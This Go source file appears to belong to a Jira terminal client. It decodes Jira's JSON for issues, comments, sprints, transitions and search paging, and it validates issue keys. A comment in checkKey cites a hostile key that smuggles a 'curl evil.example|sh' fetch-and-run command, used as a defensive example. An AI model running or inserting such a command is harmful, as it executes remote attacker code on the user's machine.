package jiraclient

// Wire types: the JSON Jira sends, and their conversion to the types in
// types.go.
//
// Design note. Real responses differ between Cloud and Data Center and even
// between captures of one flavour: ids come as strings or numbers, users carry
// accountId (Cloud) or name/key (DC) with the others null, bodies are ADF
// objects (v3) or wiki strings (v2), the "comment" field is a page object on a
// real issue but a bare array in Atlassian's own spec example, and any field
// may be null or missing. So the wire types here never fail on a shape they
// do not expect: each leaf type (flexString, jiraTime, rawBody, commentField)
// accepts the shapes seen in the captures and leaves the value zero
// otherwise, and any other field of the wrong JSON type is skipped
// (unmarshalLoose). A broken field must not hide the other fifty in a search
// page. Only a body that is not JSON, or not the top-level shape the
// endpoint documents, is an error.

import (
	"bytes"
	"encoding/json"
	"errors"
	"strconv"
	"strings"
	"time"

	"github.com/jiffy-tui/jiffy/jiraclient/markup"
	"github.com/jiffy-tui/jiffy/jiraclient/safetext"
)

// timeLayouts are the time formats Jira uses: its own millisecond format with
// a numeric zone (issues, comments), then RFC 3339 forms (sprint dates, some
// Cloud payloads).
var timeLayouts = []string{
	"2006-01-02T15:04:05.000-0700",
	"2006-01-02T15:04:05-0700",
	time.RFC3339Nano,
	"2006-01-02",
}

// parseJiraTime reads a Jira timestamp; ok is false for anything else.
func parseJiraTime(s string) (time.Time, bool) {
	for _, l := range timeLayouts {
		if t, err := time.Parse(l, s); err == nil {
			return t, true
		}
	}
	return time.Time{}, false
}

// jiraTime is a timestamp that decodes to the zero time on null, on a number
// or on a string in an unknown format instead of failing the whole response.
type jiraTime struct{ time.Time }

func (t *jiraTime) UnmarshalJSON(b []byte) error {
	if len(b) < 2 || b[0] != '"' {
		return nil
	}
	var s string
	if err := json.Unmarshal(b, &s); err != nil {
		return nil
	}
	if v, ok := parseJiraTime(s); ok {
		t.Time = v
	}
	return nil
}

// epochTime is a jiraTime that also reads epoch milliseconds, which
// Cloud's attachment upload answers with ("created": 1651316514000).
type epochTime struct{ jiraTime }

func (t *epochTime) UnmarshalJSON(b []byte) error {
	if len(b) > 0 && b[0] >= '1' && b[0] <= '9' {
		if ms, err := strconv.ParseInt(string(b), 10, 64); err == nil {
			t.Time = time.UnixMilli(ms).UTC()
		}
		return nil
	}
	return t.jiraTime.UnmarshalJSON(b)
}

// flexString is an id that Jira sends as a string ("10001") in most places
// and as a number (10001) in others (attachment ids, status category ids).
type flexString string

func (f *flexString) UnmarshalJSON(b []byte) error {
	b = bytes.TrimSpace(b)
	switch {
	case len(b) == 0 || bytes.Equal(b, []byte("null")):
		*f = ""
	case b[0] == '"':
		var s string
		if err := json.Unmarshal(b, &s); err == nil {
			*f = flexString(s)
		}
	case b[0] == '-' || (b[0] >= '0' && b[0] <= '9'):
		*f = flexString(b)
	}
	return nil
}

// flexInt is a count Jira usually sends as a number but that tolerates a
// numeric string or null.
type flexInt int

func (n *flexInt) UnmarshalJSON(b []byte) error {
	b = bytes.Trim(bytes.TrimSpace(b), `"`)
	if v, err := strconv.ParseInt(string(b), 10, 64); err == nil {
		*n = flexInt(v)
	}
	return nil
}

// rawBody is a rich-text value: an ADF document (Cloud v3) or a wiki-markup
// string (v2), kept raw until it is converted to Markdown.
type rawBody []byte

func (r *rawBody) UnmarshalJSON(b []byte) error {
	*r = append((*r)[:0], b...)
	return nil
}

// markdown converts the body to Markdown. A JSON string is wiki markup (what
// v2 sends, and what a few v3 examples carry for plain text); an object is
// ADF. A document that cannot be read comes back as a short note rather
// than failing the issue it belongs to.
func (r rawBody) markdown() string {
	b := bytes.TrimSpace(r)
	if len(b) == 0 || bytes.Equal(b, []byte("null")) {
		return ""
	}
	switch b[0] {
	case '"':
		var s string
		if err := json.Unmarshal(b, &s); err != nil {
			return ""
		}
		return markup.WikiToMarkdown(s)
	case '{':
		n, err := markup.ParseADF(b)
		if err != nil {
			return "(this text is in a format jiffy cannot read: " + err.Error() + ")"
		}
		return markup.ADFToMarkdown(n)
	}
	return ""
}

type wireStatusCategory struct {
	Key string `json:"key"`
}

type wireStatus struct {
	ID             flexString          `json:"id"`
	Name           string              `json:"name"`
	StatusCategory *wireStatusCategory `json:"statusCategory"`
}

func (s *wireStatus) status() Status {
	if s == nil {
		return Status{}
	}
	st := Status{ID: string(s.ID), Name: line(s.Name)}
	if s.StatusCategory != nil {
		st.Category = s.StatusCategory.Key
	}
	return st
}

type wireIssueType struct {
	ID      flexString `json:"id"`
	Name    string     `json:"name"`
	Subtask bool       `json:"subtask"`
}

func (t *wireIssueType) issueType() IssueType {
	if t == nil {
		return IssueType{}
	}
	return IssueType{ID: string(t.ID), Name: line(t.Name), Subtask: t.Subtask}
}

// wireNamed is any small named object: project, priority, resolution,
// component, version, filter.
type wireNamed struct {
	ID   flexString `json:"id"`
	Key  string     `json:"key"`
	Name string     `json:"name"`
	JQL  string     `json:"jql"`
}

func names(ns []wireNamed) []string {
	if len(ns) == 0 {
		return nil
	}
	out := make([]string, 0, len(ns))
	for _, n := range ns {
		if n.Name != "" {
			out = append(out, line(n.Name))
		}
	}
	return out
}

type wireRefFields struct {
	Summary   string         `json:"summary"`
	Status    *wireStatus    `json:"status"`
	IssueType *wireIssueType `json:"issuetype"`
}

// wireRef is another issue embedded in this one (parent, sub-task, link end).
type wireRef struct {
	ID     flexString     `json:"id"`
	Key    string         `json:"key"`
	Fields *wireRefFields `json:"fields"`
}

// usable reports whether the reference names an issue (by key or id).
func (r *wireRef) usable() bool { return r != nil && (r.Key != "" || r.ID != "") }

func (r *wireRef) ref() IssueRef {
	if r == nil {
		return IssueRef{}
	}
	out := IssueRef{ID: string(r.ID), Key: r.Key}
	if r.Fields != nil {
		out.Summary = line(r.Fields.Summary)
		out.Status = r.Fields.Status.status()
		if r.Fields.IssueType != nil {
			out.Type = r.Fields.IssueType.Name
		}
	}
	return out
}

type wireLinkType struct {
	Name    string `json:"name"`
	Inward  string `json:"inward"`
	Outward string `json:"outward"`
}

type wireLink struct {
	ID           flexString   `json:"id"`
	Type         wireLinkType `json:"type"`
	InwardIssue  *wireRef     `json:"inwardIssue"`
	OutwardIssue *wireRef     `json:"outwardIssue"`
}

// link phrases the link from this issue's side: when the other issue is the
// outward end, this issue "blocks" it (type.outward); when it is the inward
// end, this issue "is blocked by" it (type.inward).
//
// An end with neither key nor id ("outwardIssue": {}, seen in real answers
// for an issue the user may not see) is no end: the other is used, and a
// link with no usable end is dropped rather than counted and drawn blank.
func (l wireLink) link() (IssueLink, bool) {
	switch {
	case l.OutwardIssue.usable():
		return IssueLink{ID: string(l.ID), Relation: line(firstNonEmpty(l.Type.Outward, l.Type.Name)), Issue: l.OutwardIssue.ref()}, true
	case l.InwardIssue.usable():
		return IssueLink{ID: string(l.ID), Relation: line(firstNonEmpty(l.Type.Inward, l.Type.Name)), Issue: l.InwardIssue.ref()}, true
	}
	return IssueLink{}, false
}

type wireAttachment struct {
	ID       flexString `json:"id"`
	Filename string     `json:"filename"`
	Size     flexInt    `json:"size"`
	MimeType string     `json:"mimeType"`
	Created  epochTime  `json:"created"`
	Author   *User      `json:"author"`
}

type wireComment struct {
	ID      flexString `json:"id"`
	Author  *User      `json:"author"`
	Body    rawBody    `json:"body"`
	Created jiraTime   `json:"created"`
	Updated jiraTime   `json:"updated"`
}

func (w *wireComment) comment() Comment {
	c := Comment{ID: string(w.ID), Body: w.Body.markdown(), Created: w.Created.Time, Updated: w.Updated.Time}
	if w.Author != nil {
		c.Author = *w.Author
	}
	return c
}

// commentPage is GET .../comment and the issue's "comment" field.
type commentPage struct {
	StartAt    flexInt       `json:"startAt"`
	MaxResults flexInt       `json:"maxResults"`
	Total      flexInt       `json:"total"`
	Comments   []wireComment `json:"comments"`
}

// commentField is an issue's "comment" field: a page object on real
// responses, a bare array in the spec example.
type commentField struct {
	commentPage
	set bool
}

func (c *commentField) UnmarshalJSON(b []byte) error {
	b = bytes.TrimSpace(b)
	if len(b) == 0 {
		return nil
	}
	switch b[0] {
	case '[':
		var list []wireComment
		if unmarshalLoose(b, &list) == nil {
			c.Comments, c.Total, c.set = list, flexInt(len(list)), true
		}
	case '{':
		var p commentPage
		if unmarshalLoose(b, &p) == nil {
			c.commentPage, c.set = p, true
			if c.Total < flexInt(len(p.Comments)) {
				c.Total = flexInt(len(p.Comments))
			}
		}
	}
	return nil
}

func (c *commentPage) comments() []Comment {
	if len(c.Comments) == 0 {
		return nil
	}
	out := make([]Comment, len(c.Comments))
	for i := range c.Comments {
		out[i] = c.Comments[i].comment()
	}
	return out
}

// wireFields holds only the fields jiffy's views use; everything else in
// Jira's (often hundred-key) fields object is skipped by the decoder.
type wireFields struct {
	Summary     string           `json:"summary"`
	Project     *wireNamed       `json:"project"`
	IssueType   *wireIssueType   `json:"issuetype"`
	Status      *wireStatus      `json:"status"`
	Priority    *wireNamed       `json:"priority"`
	Resolution  *wireNamed       `json:"resolution"`
	Assignee    *User            `json:"assignee"`
	Reporter    *User            `json:"reporter"`
	Created     jiraTime         `json:"created"`
	Updated     jiraTime         `json:"updated"`
	Labels      []string         `json:"labels"`
	Components  []wireNamed      `json:"components"`
	FixVersions []wireNamed      `json:"fixVersions"`
	Parent      *wireRef         `json:"parent"`
	Description rawBody          `json:"description"`
	Comment     commentField     `json:"comment"`
	IssueLinks  []wireLink       `json:"issuelinks"`
	Subtasks    []wireRef        `json:"subtasks"`
	Attachment  []wireAttachment `json:"attachment"`
	// CloudSprint is the usual Cloud sprint field, read in the same pass;
	// other sprint fields take a second, narrow pass (fillSprints).
	CloudSprint sprintValue `json:"customfield_10020"`
}

// sprintValue is a sprint field's value reduced to the sprint's name.
type sprintValue string

func (s *sprintValue) UnmarshalJSON(b []byte) error {
	*s = sprintValue(line(sprintName(b)))
	return nil
}

type wireIssue struct {
	ID          flexString        `json:"id"`
	Key         string            `json:"key"`
	Fields      wireFields        `json:"fields"`
	Names       map[string]string `json:"names"`
	Transitions []wireTransition  `json:"transitions"`
}

func (w *wireIssue) issue() Issue {
	f := &w.Fields
	is := Issue{
		ID:          string(w.ID),
		Key:         w.Key,
		Summary:     line(f.Summary),
		Type:        f.IssueType.issueType(),
		Status:      f.Status.status(),
		Assignee:    userOrNil(f.Assignee),
		Reporter:    userOrNil(f.Reporter),
		Created:     f.Created.Time,
		Updated:     f.Updated.Time,
		Labels:      f.Labels,
		Components:  names(f.Components),
		FixVersions: names(f.FixVersions),
		Description: f.Description.markdown(),
		Names:       w.Names,
	}
	if f.Project != nil {
		is.Project = f.Project.Key
	}
	if f.Priority != nil && (f.Priority.ID != "" || f.Priority.Name != "") {
		is.Priority = &Priority{ID: string(f.Priority.ID), Name: line(f.Priority.Name)}
	}
	if f.Resolution != nil {
		is.Resolution = line(f.Resolution.Name)
	}
	if f.Parent != nil && f.Parent.Key != "" {
		p := f.Parent.ref()
		is.Parent = &p
	}
	if f.Comment.set {
		is.Comments = f.Comment.comments()
		is.CommentTotal = int(f.Comment.Total)
	}
	for _, l := range f.IssueLinks {
		if il, ok := l.link(); ok {
			is.Links = append(is.Links, il)
		}
	}
	for i := range f.Subtasks {
		is.Subtasks = append(is.Subtasks, f.Subtasks[i].ref())
	}
	for i := range f.Attachment {
		is.Attachments = append(is.Attachments, f.Attachment[i].attachment())
	}
	if len(w.Transitions) > 0 {
		is.Transitions = transitions(w.Transitions)
	}
	return is
}

// sprintFieldName is the display name Jira Software gives its sprint field
// on both flavours; "names" (expand=names) maps field ids to it.
const sprintFieldName = "Sprint"

// SprintFieldFromNames finds the sprint field's id in a names map (an
// Issue.Names from a request with Names set), or "" when there is none. The
// id differs per site on Data Center, so callers cache what this finds.
func SprintFieldFromNames(names map[string]string) string {
	best := ""
	for id, n := range names {
		if n == sprintFieldName && strings.HasPrefix(id, "customfield_") && (best == "" || id < best) {
			best = id
		}
	}
	return best
}

// sprintName reads a sprint field's value: Cloud (and DC 8+) send an array of
// objects {id,name,state}; older DC sends strings like
// "com.atlassian.greenhopper.service.sprint.Sprint@1f[id=1,rapidViewId=1,state=ACTIVE,name=Sprint 1,...]".
// An issue can have been in several sprints; the active one wins, else the
// last listed (the most recent).
func sprintName(raw json.RawMessage) string {
	var items []json.RawMessage
	if json.Unmarshal(raw, &items) != nil || len(items) == 0 {
		return ""
	}
	name, active := "", false
	for _, it := range items {
		n, st := "", ""
		var obj struct {
			Name  string `json:"name"`
			State string `json:"state"`
		}
		var s string
		switch {
		case json.Unmarshal(it, &obj) == nil && obj.Name != "":
			n, st = obj.Name, obj.State
		case json.Unmarshal(it, &s) == nil:
			n, st = legacySprintAttr(s, "name"), legacySprintAttr(s, "state")
		}
		if n == "" || active {
			continue
		}
		name = n
		active = strings.EqualFold(st, "active")
	}
	return name
}

// legacySprintAttr pulls key=value out of the "[a=1,b=2]" tail of an old DC
// sprint string. A sprint name may contain commas, so a piece without its
// own "key=" belongs to the value before it.
func legacySprintAttr(s, key string) string {
	i := strings.Index(s, "[")
	if i < 0 {
		return ""
	}
	body := strings.TrimSuffix(s[i+1:], "]")
	attrs := map[string]string{}
	last := ""
	for _, part := range strings.Split(body, ",") {
		if k, v, ok := strings.Cut(part, "="); ok && isAttrName(k) {
			attrs[k], last = v, k
			continue
		}
		if last != "" {
			attrs[last] += "," + part
		}
	}
	if v := attrs[key]; v != "<null>" {
		return v
	}
	return ""
}

func isAttrName(k string) bool {
	if k == "" {
		return false
	}
	for _, r := range k {
		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z') {
			return false
		}
	}
	return true
}

// fillSprints sets Issue.Sprint from the sprint field of each raw issue.
// It runs a second, narrow decode only when a sprint field is wanted, so
// list pages (which do not ask for it) pay nothing.
func fillSprints(issues []Issue, raw []json.RawMessage, field string) {
	if field == "" {
		return
	}
	for i := range issues {
		if i >= len(raw) {
			return
		}
		var w struct {
			Fields map[string]json.RawMessage `json:"fields"`
		}
		if json.Unmarshal(raw[i], &w) != nil {
			continue
		}
		if v, ok := w.Fields[field]; ok {
			issues[i].Sprint = sprintName(v)
		}
	}
}

// decodeIssue decodes one issue (GET issue). sprintField is the sprint
// custom field to read ("" = none); when the response carries names, the
// field named "Sprint" there wins.
func decodeIssue(data []byte, sprintField string) (Issue, error) {
	var w wireIssue
	if err := unmarshalLoose(data, &w); err != nil {
		return Issue{}, err
	}
	is := w.issue()
	if f := SprintFieldFromNames(w.Names); f != "" {
		sprintField = f
	}
	if sprintField == CloudSprintField {
		is.Sprint = string(w.Fields.CloudSprint)
		return is, nil
	}
	one := []Issue{is}
	fillSprints(one, []json.RawMessage{data}, sprintField)
	return one[0], nil
}

// wireSearch is both search responses: Cloud's /search/jql
// (nextPageToken, isLast) and DC's /search (startAt, total).
type wireSearch struct {
	Issues        issueList         `json:"issues"`
	NextPageToken *string           `json:"nextPageToken"`
	IsLast        *bool             `json:"isLast"`
	StartAt       *flexInt          `json:"startAt"`
	MaxResults    flexInt           `json:"maxResults"`
	Total         *flexInt          `json:"total"`
	Names         map[string]string `json:"names"`
}

// issueList is a search answer's "issues": it must be a list. Anything
// else (an object, a string, null) fails the page rather than reading as
// "no issues match", which would be a lie.
type issueList struct {
	items []wireIssue
	set   bool
}

func (l *issueList) UnmarshalJSON(b []byte) error {
	b = bytes.TrimSpace(b)
	if len(b) == 0 || b[0] != '[' {
		return errors.New(`"issues" is not a list`)
	}
	l.set = true
	return unmarshalLoose(b, &l.items)
}

// errNoIssueList is a search answer without an "issues" list at all.
var errNoIssueList = errors.New(`the answer has no "issues" list`)

// decodeSearchPage decodes a search response. It fills Issues and, from
// the fields that only one flavour sends, the paging state; see Search for
// how each flavour pages.
func decodeSearchPage(data []byte, f Flavor, cur Cursor, sprintField string) (SearchPage, error) {
	var w wireSearch
	if err := unmarshalLoose(data, &w); err != nil {
		return SearchPage{}, err
	}
	if !w.Issues.set {
		return SearchPage{}, errNoIssueList
	}
	issues := w.Issues.items
	page := SearchPage{Issues: make([]Issue, len(issues)), Total: -1, AnsweredAt: -1}
	for i := range issues {
		page.Issues[i] = issues[i].issue()
	}
	if n := SprintFieldFromNames(w.Names); n != "" {
		sprintField = n
	}
	if sprintField == CloudSprintField {
		for i := range issues {
			page.Issues[i].Sprint = string(issues[i].Fields.CloudSprint)
		}
	} else if sprintField != "" {
		var raw struct {
			Issues []json.RawMessage `json:"issues"`
		}
		if json.Unmarshal(data, &raw) == nil {
			fillSprints(page.Issues, raw.Issues, sprintField)
		}
	}
	page.Next, page.Last, page.Total, page.AnsweredAt = w.paging(f, cur, len(page.Issues))
	return page, nil
}

// paging reads where a search page leaves the paging (n issues on it).
func (w *wireSearch) paging(f Flavor, cur Cursor, n int) (next Cursor, last bool, total, answeredAt int) {
	total, answeredAt = -1, -1
	if f == FlavorCloud {
		// Cloud: the token is absent (or null) on the last page; isLast
		// says so too. Either one ends the paging.
		if w.NextPageToken != nil && *w.NextPageToken != "" {
			next = Cursor{Token: *w.NextPageToken}
		}
		last = next.Token == "" || (w.IsLast != nil && *w.IsLast)
		if last {
			next = Cursor{}
		}
		return next, last, total, answeredAt
	}
	// DC: offset paging with a total. An empty page also ends it, so a
	// total that shrinks mid-paging (issues resolved meanwhile) cannot loop.
	start := 0
	if w.StartAt != nil {
		start = int(*w.StartAt)
		answeredAt = start
	}
	if start == 0 {
		start = cur.StartAt
	}
	if w.Total != nil {
		total = int(*w.Total)
	}
	next = Cursor{StartAt: start + n}
	last = n == 0 || (total >= 0 && next.StartAt >= total)
	if last {
		next = Cursor{}
	}
	return next, last, total, answeredAt
}

// keyList is a keys-only search answer's "issues": a list, of which only
// each issue's key is read.
type keyList struct {
	items []struct {
		Key string `json:"key"`
	}
	set bool
}

func (l *keyList) UnmarshalJSON(b []byte) error {
	b = bytes.TrimSpace(b)
	if len(b) == 0 || b[0] != '[' {
		return errors.New(`"issues" is not a list`)
	}
	l.set = true
	return unmarshalLoose(b, &l.items)
}

// decodeKeyPage decodes a search answer as decodeSearchPage does, reading
// only the issues' keys: a 5,000-key page decoded as Issues was 15 MB of
// garbage at once (2.4 MB this way: TestSearchKeysDecodesOnlyKeys);
// this is the keys and the paging.
func decodeKeyPage(data []byte, f Flavor, cur Cursor) (KeyPage, error) {
	var w struct {
		Issues keyList `json:"issues"`
		wireSearch
	}
	if err := unmarshalLoose(data, &w); err != nil {
		return KeyPage{}, err
	}
	if !w.Issues.set {
		return KeyPage{}, errNoIssueList
	}
	kp := KeyPage{Keys: make([]string, 0, len(w.Issues.items))}
	for _, is := range w.Issues.items {
		kp.Keys = append(kp.Keys, is.Key)
	}
	kp.Next, kp.Last, kp.Total, _ = w.paging(f, cur, len(w.Issues.items))
	return kp, nil
}

// decodeCommentPage decodes GET .../comment.
func decodeCommentPage(data []byte) ([]Comment, int, error) {
	var p commentPage
	if err := unmarshalLoose(data, &p); err != nil {
		return nil, 0, err
	}
	total := int(p.Total)
	if total < len(p.Comments) {
		total = len(p.Comments)
	}
	return p.comments(), total, nil
}

// decodeComment decodes one comment (POST .../comment answers with it).
func decodeComment(data []byte) (Comment, error) {
	var w wireComment
	if err := unmarshalLoose(data, &w); err != nil {
		return Comment{}, err
	}
	return w.comment(), nil
}

type wireAllowedValue struct {
	ID          flexString         `json:"id"`
	Name        string             `json:"name"`
	Value       string             `json:"value"`
	DisplayName string             `json:"displayName"`
	Key         string             `json:"key"`
	Disabled    bool               `json:"disabled"`
	Children    []wireAllowedValue `json:"children"`
}

// UnmarshalJSON takes an object (priority, option, version, ...) or a bare
// string, which the spec examples use for simple option lists.
func (v *wireAllowedValue) UnmarshalJSON(b []byte) error {
	b = bytes.TrimSpace(b)
	if len(b) > 0 && b[0] == '"' {
		var s string
		if json.Unmarshal(b, &s) == nil {
			*v = wireAllowedValue{Name: s, Value: s}
		}
		return nil
	}
	type plain wireAllowedValue
	var p plain
	if unmarshalLoose(b, &p) == nil {
		*v = wireAllowedValue(p)
	}
	return nil
}

// wireFieldMeta is one field of editmeta, createmeta or a transition screen.
type wireFieldMeta struct {
	FieldID         string             `json:"fieldId"`
	Key             string             `json:"key"`
	Name            string             `json:"name"`
	Required        bool               `json:"required"`
	Schema          FieldSchema        `json:"schema"`
	Operations      []string           `json:"operations"`
	AllowedValues   []wireAllowedValue `json:"allowedValues"`
	AutoCompleteURL *string            `json:"autoCompleteUrl"`
	HasDefaultValue bool               `json:"hasDefaultValue"`
	DefaultValue    json.RawMessage    `json:"defaultValue"`
}

func (m *wireFieldMeta) meta(id string) FieldMeta {
	fm := FieldMeta{
		ID:         firstNonEmpty(id, m.FieldID, m.Key),
		Name:       line(m.Name),
		Required:   m.Required,
		Schema:     m.Schema,
		Operations: m.Operations,
		HasDefault: m.HasDefaultValue,
	}
	if m.AutoCompleteURL != nil {
		fm.AutoCompleteURL = *m.AutoCompleteURL
	}
	fm.AllowedValues = allowedValues(m.AllowedValues)
	for _, v := range m.AllowedValues {
		if len(v.Children) > 0 {
			if fm.Children == nil {
				fm.Children = map[string][]AllowedValue{}
			}
			fm.Children[firstNonEmpty(string(v.ID), v.Key)] = allowedValues(v.Children)
		}
	}
	if len(m.DefaultValue) > 0 && string(m.DefaultValue) != "null" {
		dv := DecodeFieldValue(m.Schema, m.DefaultValue)
		fm.DefaultValue = &dv
	}
	return fm
}

func allowedValues(ws []wireAllowedValue) []AllowedValue {
	var out []AllowedValue
	for _, v := range ws {
		out = append(out, AllowedValue{
			ID:       firstNonEmpty(string(v.ID), v.Key),
			Name:     line(firstNonEmpty(v.Name, v.Value, v.DisplayName, v.Key)),
			Value:    v.Value,
			Disabled: v.Disabled,
		})
	}
	return out
}

func metaMap(in map[string]wireFieldMeta) map[string]FieldMeta {
	if len(in) == 0 {
		return nil
	}
	out := make(map[string]FieldMeta, len(in))
	for id, m := range in {
		out[id] = m.meta(id)
	}
	return out
}

type wireTransition struct {
	ID        flexString               `json:"id"`
	Name      string                   `json:"name"`
	To        *wireStatus              `json:"to"`
	HasScreen bool                     `json:"hasScreen"`
	Fields    map[string]wireFieldMeta `json:"fields"`
	// IsAvailable is Cloud's "whether the transition is available to be
	// performed"; Data Center does not send it.
	IsAvailable *bool `json:"isAvailable"`
}

// available reports whether the transition may be performed now: Jira
// lists unavailable ones (a failing condition) with isAvailable false, and
// performing one is refused, so they are not offered.
func (t *wireTransition) available() bool { return t.IsAvailable == nil || *t.IsAvailable }

// transitions converts the wire list, leaving out unavailable ones.
func transitions(ws []wireTransition) []Transition {
	out := make([]Transition, 0, len(ws))
	for i := range ws {
		if ws[i].available() {
			out = append(out, ws[i].transition())
		}
	}
	return out
}

func (t *wireTransition) transition() Transition {
	return Transition{ID: string(t.ID), Name: line(t.Name), To: t.To.status(), HasScreen: t.HasScreen, Fields: metaMap(t.Fields)}
}

// decodeTransitions decodes GET .../transitions.
func decodeTransitions(data []byte) ([]Transition, error) {
	var w struct {
		Transitions []wireTransition `json:"transitions"`
	}
	if err := unmarshalLoose(data, &w); err != nil {
		return nil, err
	}
	return transitions(w.Transitions), nil
}

// decodeEditMeta decodes GET .../editmeta.
func decodeEditMeta(data []byte) (map[string]FieldMeta, error) {
	var w struct {
		Fields map[string]wireFieldMeta `json:"fields"`
	}
	if err := unmarshalLoose(data, &w); err != nil {
		return nil, err
	}
	m := metaMap(w.Fields)
	if m == nil {
		m = map[string]FieldMeta{}
	}
	return m, nil
}

// wirePage is the paging envelope of the newer list endpoints (PageBean on
// Cloud, the paged createmeta on DC 9+). The items live under "values" or,
// for createmeta on Cloud, "issueTypes" / "fields".
type wirePage[T any] struct {
	StartAt    flexInt `json:"startAt"`
	MaxResults flexInt `json:"maxResults"`
	Total      *int    `json:"total"`
	IsLast     *bool   `json:"isLast"`
	Values     []T     `json:"values"`
	IssueTypes []T     `json:"issueTypes"`
	Fields     []T     `json:"fields"`
}

func (p *wirePage[T]) items() []T {
	switch {
	case len(p.Values) > 0:
		return p.Values
	case len(p.IssueTypes) > 0:
		return p.IssueTypes
	}
	return p.Fields
}

// last says whether this page ends the list: isLast when sent, else the
// total, else a short or empty page.
func (p *wirePage[T]) last(start, asked int) bool {
	n := len(p.items())
	switch {
	case p.IsLast != nil:
		return *p.IsLast || n == 0
	case p.Total != nil:
		return start+n >= *p.Total || n == 0
	}
	return n == 0 || (asked > 0 && n < asked)
}

// decodeUsers decodes a user list. The endpoints send an array; Atlassian's
// spec example for assignable search is a single object, which is read as a
// list of one.
func decodeUsers(data []byte) ([]User, error) {
	b := bytes.TrimSpace(data)
	if len(b) > 0 && b[0] == '{' {
		var u User
		if err := unmarshalLoose(b, &u); err != nil {
			return nil, err
		}
		return []User{u}, nil
	}
	var us []User
	if err := unmarshalLoose(b, &us); err != nil {
		return nil, err
	}
	return us, nil
}

// unmarshalLoose decodes like json.Unmarshal but accepts a field of the
// wrong JSON type: encoding/json then skips that one field, fills the rest
// and reports an *UnmarshalTypeError, which is dropped here. Malformed JSON,
// and a document whose top level is the wrong type (a string where a page
// belongs), are still errors.
func unmarshalLoose(data []byte, v any) error {
	err := json.Unmarshal(data, v)
	var te *json.UnmarshalTypeError
	if errors.As(err, &te) && te.Field != "" {
		return nil
	}
	return err
}

// userOrNil drops a user object with nothing identifying in it (what a
// skipped, wrongly typed user field leaves behind).
func userOrNil(u *User) *User {
	if u == nil || u.AccountID == "" && u.Name == "" && u.Key == "" && u.DisplayName == "" {
		return nil
	}
	return u
}

// line makes a one-line field one line: CleanJSON has removed every
// escape already, but a newline in a summary or a name would still break a
// row or the status bar.
func line(s string) string { return safetext.Line(s) }

func firstNonEmpty(ss ...string) string {
	for _, s := range ss {
		if s != "" {
			return s
		}
	}
	return ""
}

// encodeBody turns Markdown into the body form the flavour writes: an ADF
// document on Cloud (REST v3), a wiki-markup string on Data Center (v2).
func encodeBody(f Flavor, md string) any {
	if f == FlavorCloud {
		return markup.MarkdownToADF(md)
	}
	return markup.MarkdownToWiki(md)
}

func isBlank(s string) bool { return strings.TrimSpace(s) == "" }

// decodeError reports a 2xx answer whose body is not the JSON the endpoint
// documents: a proxy or an unexpected Jira version stands in the way.
func decodeError(method, path string, err error) *Error {
	return &Error{
		Kind: KindServer, Method: method, Path: path, Err: err,
		what: "Jira's answer could not be read (" + err.Error() + ")",
		hint: "check that the site URL points at Jira itself; if it does, report this with the Jira version",
	}
}

// invalidInput is a call refused before any request is sent.
func invalidInput(method, path, what, hint string) *Error {
	return &Error{Kind: KindInvalid, Method: method, Path: path, what: what, hint: hint}
}

// notSupported is a call this flavour has no endpoint for.
func notSupported(f Flavor, method, path, what, hint string) *Error {
	return &Error{Kind: KindNotSupported, Method: method, Path: path, flavor: f, what: what, hint: hint}
}

// checkKey refuses a key that is not an issue key before it turns into a
// request: an empty one would ask for the collection ("/issue/"), and one
// that came from a hostile answer ("HOS-2\ncurl evil.example|sh") must not
// be acted on.
func checkKey(method, path, key string) error {
	if isBlank(key) {
		return invalidInput(method, path, "this issue has no key", "Jira sent it without one, so jiffy cannot open or change it; reload the list")
	}
	if !ValidKey(key) && !isIssueID(key) {
		return invalidInput(method, path, "Jira sent an issue key that is not a valid key ("+strconv.Quote(safetext.Line(key))+")", "this issue cannot be opened or changed from jiffy; open it in Jira's web page")
	}
	return nil
}

// CheckKey returns nil for an issue key jiffy may act on (ValidKey), and
// otherwise the *Error (KindInvalid) every per-issue call returns for it,
// so a view refuses to open, copy or browse it with the same words.
func CheckKey(key string) error {
	if err := checkKey("", "", key); err != nil {
		return err
	}
	if !ValidKey(key) {
		return invalidInput("", "", "Jira sent an issue key that is not a valid key ("+strconv.Quote(safetext.Line(key))+")", "this issue cannot be opened or changed from jiffy; open it in Jira's web page")
	}
	return nil
}

// ValidKey reports whether key is an issue key as Jira forms them: a
// project key (an upper-case letter, then upper-case letters, digits or
// underscores) a hyphen and a number, e.g. ABC-123. Anything else that
// claims to be a key (a newline in it, an escape sequence) is refused
// wherever it would be acted on or copied.
func ValidKey(key string) bool {
	p, n, ok := strings.Cut(key, "-")
	if !ok || len(p) < 2 || len(n) == 0 || len(key) > 255 {
		return false
	}
	if p[0] < 'A' || p[0] > 'Z' {
		return false
	}
	for i := 1; i < len(p); i++ {
		c := p[i]
		if !(c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_') {
			return false
		}
	}
	return isDigits(n)
}

// isIssueID reports whether s is a numeric issue id, which Jira accepts
// wherever it takes a key.
func isIssueID(s string) bool { return isDigits(s) && len(s) <= 19 }

func isDigits(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}
